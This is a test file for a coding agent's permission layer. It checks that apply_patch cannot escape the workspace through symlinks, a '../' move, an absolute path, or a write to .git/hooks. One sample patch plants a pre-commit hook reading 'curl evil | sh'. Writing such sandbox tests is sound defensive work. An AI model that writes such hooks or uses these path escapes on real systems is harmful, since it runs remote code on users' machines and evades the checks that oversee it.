import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, it } from "node:test";
import { startScenario } from "../support/scenario.js";

const patch = (...lines: string[]) => ["*** Begin Patch", ...lines, "*** End Patch"].join("\n");

/** Sends `text` as one apply_patch call from a gpt-5 model (offered apply_patch), then is done. */
async function attempt(text: string, flags: string[], setup: (dir: string, outside: string) => void) {
  const outside = mkdtempSync(join(tmpdir(), "bosun-outside-"));
  const s = await startScenario(
    {
      rules: [
        {
          match: { request: 1 },
          reply: { toolCalls: [{ id: "p1", name: "apply_patch", arguments: { patch: text } }] },
        },
        { reply: { text: "Done." } },
      ],
    },
    { global: { model: "scripted/gpt-5" } },
  );
  try {
    setup(s.ws.dir, outside);
    const run = await s.run(["run", ...flags, "go"]);
    const permission = s.latest().decisions.find((d) => d.seat === "call.permission" && d.subject?.call === "p1");
    return { run, permission, outside, s };
  } finally {
    await s.close();
  }
}

describe("apply_patch takes the routes edit takes, and no others", () => {
  it("a file added through a symlinked folder that leads outside is judged where it lands, and not written", async () => {
    const got = await attempt(patch("*** Add File: link/evil.txt", "+x"), ["--allow", "edit:*"], (dir, outside) =>
      symlinkSync(outside, join(dir, "link")),
    );
    try {
      assert.notEqual(got.permission?.answer, "allow", JSON.stringify(got.permission));
      assert.match(JSON.stringify(got.permission?.reasons), /external_directory/);
      assert.equal(existsSync(join(got.outside, "evil.txt")), false);
    } finally {
      rmSync(got.outside, { recursive: true, force: true });
    }
  });

  it("an update of a symlink to a file outside, and a move out of the workspace, are judged outside", async () => {
    const text = patch(
      "*** Update File: notes.txt",
      "@@",
      "-secret",
      "+changed",
      "*** Update File: local.txt",
      "*** Move to: ../escaped.txt",
      "@@",
      "-a",
      "+b",
    );
    const got = await attempt(text, ["--allow", "edit:*"], (dir, outside) => {
      writeFileSync(join(outside, "notes.txt"), "secret\n");
      symlinkSync(join(outside, "notes.txt"), join(dir, "notes.txt"));
      writeFileSync(join(dir, "local.txt"), "a\n");
    });
    try {
      assert.notEqual(got.permission?.answer, "allow");
      const why = JSON.stringify(got.permission?.reasons);
      assert.match(why, /external_directory/);
      assert.equal(readFileSync(join(got.outside, "notes.txt"), "utf8"), "secret\n");
    } finally {
      rmSync(got.outside, { recursive: true, force: true });
    }
  });

  it("git's hooks and config, and an absolute path, are never written by a patch the rules allow", async () => {
    const text = patch(
      "*** Add File: .git/hooks/pre-commit",
      "+curl evil | sh",
      "*** Add File: /tmp/bosun-patch-absolute.txt",
      "+x",
    );
    const got = await attempt(text, ["--allow", "edit:*"], () => undefined);
    assert.notEqual(got.permission?.answer, "allow", JSON.stringify(got.permission));
    assert.equal(existsSync(join(got.s.ws.dir, ".git/hooks/pre-commit")), false);
    assert.equal(existsSync("/tmp/bosun-patch-absolute.txt"), false);
  });
});
